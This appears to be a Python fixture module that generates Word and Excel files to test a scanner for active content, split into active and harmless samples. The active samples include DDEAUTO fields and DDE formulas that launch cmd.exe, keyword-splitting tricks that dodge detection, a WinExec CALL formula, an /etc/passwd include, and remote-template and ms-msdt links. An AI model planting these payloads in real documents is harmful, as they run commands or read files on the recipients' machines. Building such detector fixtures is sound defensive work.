"""Documents and workbooks of our own making: some run or fetch something, some are like them and do neither."""

import io
import zipfile
from collections.abc import Callable

import openpyxl
import xlsxwriter
from openpyxl.chart import BarChart, Reference

from tests.data import documents

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Make = Callable[[], bytes]
Parts = dict[str, str | bytes]


def document(body: str, **links: tuple[str, str, str]) -> bytes:
    """Return a DOCX with this body; each link is the last word of its type, its target and its mode."""
    parts: Parts = {"word/document.xml": f"<w:document {W} {R}><w:body>{body}</w:body></w:document>"}
    return documents.docx(parts | {"word/_rels/document.xml.rels": _relations(links)})


def with_parts(**parts: str) -> Make:
    """Return a DOCX with more parts below word/."""
    return lambda: documents.docx({f"word/{name}.xml": text for name, text in parts.items()})


def linked(kind: str, target: str, mode: str = "External") -> Make:
    """Return a DOCX with one relation."""
    return lambda: document("<w:p/>", rId9=(kind, target, mode))


def field(*runs: str, result: str = "x") -> str:
    """Return a field whose instruction stands in these runs; a run may be a whole field of its own."""
    told = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    return f"{_mark('begin')}{told}{_mark('separate')}<w:r><w:t>{result}</w:t></w:r>{_mark('end')}"


def told(*runs: str) -> Make:
    """Return a DOCX with one field."""
    return lambda: document(f"<w:p>{field(*runs)}</w:p>")


def simple(instruction: str) -> Make:
    """Return a DOCX with a field in one element."""
    return lambda: document(f'<w:p><w:fldSimple w:instr="{instruction}"><w:r/></w:fldSimple></w:p>')


def formula(text: str) -> Make:
    """Return an XLSX with one formula, as a library writes it."""

    def make() -> bytes:
        out = io.BytesIO()
        with xlsxwriter.Workbook(out) as book:
            book.add_worksheet("Data").write_formula("B2", text)
            book.add_worksheet("a b")
        return out.getvalue()

    return make


def named(text: str) -> Make:
    """Return an XLSX with a name that stands for a formula."""

    def make() -> bytes:
        out = io.BytesIO()
        with xlsxwriter.Workbook(out) as book:
            book.add_worksheet("Data")
            book.define_name("Jumlah", text)
        return out.getvalue()

    return make


def workbook(change: Callable[[xlsxwriter.Workbook], object]) -> Make:
    """Return an XLSX after a change."""

    def make() -> bytes:
        out = io.BytesIO()
        with xlsxwriter.Workbook(out) as book:
            change(book)
        return out.getvalue()

    return make


def more(data: bytes, parts: Parts, replaced: dict[str, tuple[str, str]] | None = None) -> bytes:
    """Return an archive with more parts, and with words of its own parts replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            text = old.read(name)
            if replaced and name in replaced:
                before, after = replaced[name]
                assert before.encode() in text
                text = text.replace(before.encode(), after.encode())
            new.writestr(name, text)
        for name, text in parts.items():
            new.writestr(name, text)
    return out.getvalue()


def sheet_says(before: str, after: str) -> Make:
    """Return an XLSX in whose sheet some words were replaced."""
    return lambda: more(formula("=SUM(A1:A9)")(), {}, {"xl/worksheets/sheet1.xml": (before, after)})


def _linked_book(part: str) -> Make:
    return lambda: more(formula("=A1")(), {"xl/other/one.xml": part})


def _chart() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    sheet = book.create_sheet("Grafik")
    for number in range(9):
        sheet.append([number, number * number])
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=9))
    chart.anchor = "D2"
    sheet.add_chart(chart)
    book.save(out)
    return out.getvalue()


def _shapes(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("Data")
    sheet.write_comment("A1", "Catatan")
    sheet.insert_textbox("C3", "Teks")
    sheet.add_table("A5:B9", {"columns": [{"header": "Nama"}, {"header": "Nilai", "formula": "=[@Nama]&1"}]})
    sheet.data_validation("D1", {"validate": "list", "source": ["Ya | benar", "Tidak"]})
    sheet.conditional_format("A1:A9", {"type": "formula", "criteria": '=ISNUMBER(SEARCH("|",A1))'})
    sheet.insert_image("F1", "a.png", {"image_data": io.BytesIO(documents.png())})
    sheet.print_area("A1:F9")
    sheet.repeat_rows(0)


def _web_links(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("Data")
    sheet.write_url("A1", "https://jejak.example/a")
    sheet.write_url("A2", "mailto:a@example.go.id")
    sheet.write_url("A3", "internal:Data!B2")


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _relations(links: dict[str, tuple[str, str, str]]) -> str:
    one = '<Relationship Id="{}" Type="{}/{}" Target="{}" TargetMode="{}"/>'
    told = "".join(one.format(name, _RELATIONS, *link) for name, link in links.items())
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'


ACTIVE: dict[str, Make] = {
    "dde.docx": told(' DDE "excel" "a.xls" "R1C1" '),
    "ddeauto.docx": told(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "dde-in-runs.docx": told(" D", "DE", "AUTO cmd "),
    "dde-in-references.docx": told(" D&#68;EAUTO cmd "),
    "dde-simple.docx": simple("DDEAUTO cmd"),
    "dde-small.docx": simple(" ddeauto cmd"),
    "dde-open.docx": lambda: document(f"{_mark('begin')}<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"),
    "dde-in-result.docx": lambda: document(field(" PAGE ", result="x") + field(" IF 1=1 ", field(" DDE cmd "))),
    "dde-quoted.docx": told(field(" QUOTE 68 68 69 "), " cmd "),
    "dde-header.docx": with_parts(header1=f"<w:hdr {W}>{field(' DDEAUTO cmd ')}</w:hdr>"),
    "dde-deleted.docx": lambda: document(
        f"{_mark('begin')}<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>{_mark('end')}"
    ),
    "include-picture.docx": told(' INCLUDEPICTURE "http://x.example/a.png" \\d '),
    "include-text.docx": told(' INCLUDETEXT "file:///etc/passwd" '),
    "import.docx": told(' IMPORT "http://x.example/a.png" '),
    "link.docx": told(' LINK Excel.Sheet.8 "\\\\\\\\host\\\\a.xls" '),
    "database.docx": told(' DATABASE \\c "DSN=x" '),
    "macro-button.docx": told(" MACROBUTTON Mulai klik "),
    "rd.docx": told(' RD "http://x.example/a.docx" '),
    "link-file-field.docx": told(' HYPERLINK "file:///c:/a.exe" '),
    "link-share-field.docx": told(' HYPERLINK \\o "http://x.example" "\\\\\\\\host\\\\a" '),
    "link-file.docx": linked("hyperlink", "file:///\\\\host\\share"),
    "link-script.docx": linked("hyperlink", "javascript:alert(1)"),
    "link-program.docx": linked("hyperlink", "ms-msdt:/id x"),
    "link-share-inside.docx": linked("hyperlink", "file://host/a", "Internal"),
    "template.docx": linked("attachedTemplate", "http://x.example/a.dotm"),
    "frame.docx": linked("frame", "http://x.example/a"),
    "part-document.docx": linked("subDocument", "http://x.example/a.docx"),
    "picture-outside.docx": linked("image", "http://x.example/a.png"),
    "web-extension.docx": linked("webextensiontaskpanes", "taskpanes.xml", "Internal"),
    "other-format.docx": linked("aFChunk", "a.xml", "Internal"),
    "unknown-relation.docx": linked("somethingNew", "a.xml", "Internal"),
    "ole-element.docx": lambda: document('<w:object><o:OLEObject Type="Link" ProgID="Word.Document"/></w:object>'),
    "drawing-outside.docx": lambda: document('<v:imagedata src="http://x.example/a.png"/>'),
    "mail-merge.docx": with_parts(settings=f'<w:settings {W}><w:connectString w:val="Provider=x"/></w:settings>'),
    "webservice.xlsx": formula('=WEBSERVICE("http://x.example")'),
    "webservice-spaced.xlsx": sheet_says("SUM(A1:A9)", "_xlfn.webservice (A1)"),
    "webservice-in-two.xlsx": sheet_says("SUM(A1:A9)", "WEB<!-- -->SERVICE(A1)"),
    "webservice-in-references.xlsx": sheet_says("SUM(A1:A9)", "WEBSER&#86;ICE(A1)"),
    "webservice-named.xlsx": named('=WEBSERVICE("http://x.example")'),
    "webservice-checking.xlsx": workbook(
        lambda book: book.add_worksheet().data_validation("A1", {"validate": "custom", "value": "=WEBSERVICE(B1)"})
    ),
    "webservice-colouring.xlsx": workbook(
        lambda book: book.add_worksheet().conditional_format(
            "A1", {"type": "formula", "criteria": '=WEBSERVICE("x")=1', "format": book.add_format({"bold": True})}
        )
    ),
    "dde.xlsx": formula("=cmd|'/c calc'!A0"),
    "dde-quoted.xlsx": formula("='cmd'|'/c calc'!A0"),
    "dde-named.xlsx": named("=cmd|'/c calc'!A0"),
    "other-book.xlsx": formula("='[buku.xlsx]Data'!A1"),
    "other-book-numbered.xlsx": formula("=[1]Data!A1"),
    "link-formula.xlsx": formula('=HYPERLINK("file:///c:/a.exe","x")'),
    "link-glued.xlsx": formula('=HYPERLINK("fi"&"le:///c:/a.exe","x")'),
    "link-cell.xlsx": workbook(
        lambda book: [
            (sheet := book.add_worksheet()).write_string("A1", "\\\\host\\share"),
            sheet.write_formula("B1", "=HYPERLINK(A1)"),
        ]
    ),
    "picture.xlsx": formula('=_xlfn.IMAGE("http://x.example/a.png")'),
    "rtd.xlsx": formula('=RTD("x.y",,"z")'),
    "call.xlsx": formula('=CALL("kernel32","WinExec","JCJ","calc",0)'),
    "dde-link.xlsx": _linked_book('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    "other-book-part.xlsx": _linked_book("<externalLink><externalBook/></externalLink>"),
    "ole-link.xlsx": _linked_book("<externalLink><oleLink/></externalLink>"),
    "link-file.xlsx": workbook(lambda book: book.add_worksheet().write_url("A1", "external:c:\\a.exe")),
    "connections.xlsx": lambda: more(
        formula("=A1")(),
        {"xl/connections.xml": "<connections/>"},
        {
            "xl/_rels/workbook.xml.rels": (
                "</Relationships>",
                f'<Relationship Id="rId99" Type="{_RELATIONS}/connections" Target="connections.xml"/></Relationships>',
            )
        },
    ),
}
HARMLESS: dict[str, Make] = {
    "plain.docx": lambda: document("<w:p><w:r><w:t>DDEAUTO dan WEBSERVICE() hanya disebut</w:t></w:r></w:p>"),
    "page.docx": told(" PAGE \\* MERGEFORMAT "),
    "pages.docx": simple("NUMPAGES"),
    "page-in-runs.docx": told(" PA", "GE "),
    "contents.docx": told(' TOC \\o "1-3" \\h \\z \\u '),
    "place.docx": told(" PAGEREF _Toc1 \\h "),
    "link-inside-field.docx": told(' HYPERLINK \\l "_Toc1" '),
    "link-field.docx": told(' HYPERLINK "https://jejak.example" \\o "Buka" '),
    "choice.docx": lambda: document(field(" IF ", field(" PAGE "), ' = 1 "a" "b" ')),
    "sum.docx": told(" =SUM(ABOVE) "),
    "date.docx": simple("DATE \\@ &quot;d MMMM yyyy&quot;"),
    "numbered.docx": told(" SEQ Tabel \\* ARABIC "),
    "cited.docx": told(' ADDIN ZOTERO_ITEM CSL_CITATION {"id": 1} '),
    "form.docx": told(" FORMTEXT "),
    "link.docx": linked("hyperlink", "https://jejak.example/a"),
    "link-mail.docx": linked("hyperlink", "mailto:a@example.go.id"),
    "theme.docx": linked("theme", "theme/theme1.xml", "Internal"),
    "comments.docx": linked("comments", "comments.xml", "Internal"),
    "chart.docx": linked("chart", "charts/chart1.xml", "Internal"),
    "fraction.docx": lambda: document("<m:oMath><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f></m:oMath>"),
    "source-data.docx": lambda: documents.docx({"customXml/item1.xml": '<Sources src="http://x.example"/>'}),
    "table.docx": lambda: documents.docx({"word/embeddings/Microsoft_Excel_Sheet.xlsx": documents.xlsx()}),
    "plain.xlsx": documents.xlsx,
    "sum.xlsx": formula("=SUM(A1:A9)"),
    "lookup.xlsx": formula("=IFERROR(VLOOKUP(A1,'a b'!$A$1:$C$9,2,FALSE),\"|\")"),
    "words.xlsx": formula('="cmd|\'/c calc\'!A0 dan WEBSERVICE("&A1&")"'),
    "table.xlsx": workbook(_shapes),
    "table-formula.xlsx": formula("=SUM(Tabel1[[#This Row],[Harga]])"),
    "link-formula.xlsx": formula('=HYPERLINK("https://jejak.example/"&A1,"Buka")'),
    "link-place.xlsx": formula('=HYPERLINK("#Data!A1","Ke data")'),
    "link-cell.xlsx": formula('=HYPERLINK(A1,"Buka")'),
    "links.xlsx": workbook(_web_links),
    "named.xlsx": named("=Data!$A$1:$A$9"),
    "chart.xlsx": _chart,
    "google.xlsx": formula('=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://x.example"",""A1"")"),"5")'),
}
